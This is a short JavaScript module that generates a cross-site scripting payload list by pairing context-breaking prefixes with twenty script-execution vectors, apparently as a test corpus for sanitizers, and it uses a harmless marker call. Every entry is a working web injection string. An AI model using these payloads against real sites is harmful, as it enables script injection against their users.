/** Texts that would run a script, or break out of where they stand, in a page that trusts them. */

const CALL = 'ran(1)'

/** Ways to begin, each in front of every way to run something. */
const BREAKS = ['', '">', "'>", '--><', '</title>', '</script>', '\u2028', '{{', '${', '%3E']

const RUNS = [
  `<script>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`,
  `<svg/onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<details open ontoggle=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<a href=javascript:${CALL}>x</a>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
  `<template><img src=x onerror=${CALL}></template>`,
  `<style>@import'javascript:${CALL}'</style>`,
  `<object data="javascript:${CALL}"></object>`,
  `<base href=javascript:${CALL}//>`,
  `<img src=x:x style=animation-name:x onanimationstart=${CALL}>`,
  `constructor.constructor('${CALL}')()`,
  `{{constructor.constructor('${CALL}')()}}`,
  `javascript:${CALL}`,
  `=HYPERLINK("javascript:${CALL}")`,
  `<noscript><p title="</noscript><img src onerror=${CALL}>">`,
]

export const PAYLOADS = BREAKS.flatMap((start) => RUNS.map((run) => start + run)).map((text) =>
  // A list is lines of cells: neither may a text hold.
  text.replace(/[,\n]/g, ' '),
)
